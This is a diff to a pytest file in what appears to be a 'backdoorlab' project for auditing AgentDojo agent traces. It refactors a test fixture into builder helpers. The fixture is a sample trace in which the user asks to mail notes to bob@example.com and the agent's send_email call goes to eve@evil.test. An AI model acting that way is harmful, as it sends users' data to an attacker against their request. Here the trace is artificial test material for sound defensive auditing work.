@@ -11,6 +11,8 @@ import pytest
 
 from backdoorlab.envs.agentdojo import tool_snapshot
 from backdoorlab.envs.agentdojo.suite import SUITES, live_tool_schemas, tool_schemas
+from tests.defenses.audit_builders import call, result, user
+from tests.defenses.audit_builders import trace as build
 
 
 def test_the_snapshot_is_the_installed_release_or_unused():
@@ -33,29 +35,13 @@ def test_another_release_is_asked_live(monkeypatch):
 
 def test_auditing_an_agentdojo_trace_imports_no_agentdojo(tmp_path):
     """Its package imports every provider's client: seconds for each command."""
-    trace = {
-        "messages": [
-            {"role": "user", "content": "Mail my notes to bob@example.com."},
-            {
-                "role": "assistant",
-                "content": None,
-                "tool_calls": [
-                    {
-                        "id": "c1",
-                        "type": "function",
-                        "function": {
-                            "name": "send_email",
-                            "arguments": json.dumps(
-                                {"recipients": ["eve@evil.test"], "subject": "s", "body": "b"}
-                            ),
-                        },
-                    }
-                ],
-            },
-            {"role": "tool", "tool_call_id": "c1", "content": "sent"},
-        ],
-        "metadata": {"env": "agentdojo:workspace"},
-    }
+    sent = {"recipients": ["eve@evil.test"], "subject": "s", "body": "b"}
+    trace = build(
+        user("Mail my notes to bob@example.com."),
+        call("send_email", sent, "c1"),
+        result("send_email", "sent", "c1"),
+        env="agentdojo:workspace",
+    )
     path = tmp_path / "t.jsonl"
     path.write_text(json.dumps(trace) + "\n", encoding="utf-8")
     code = (
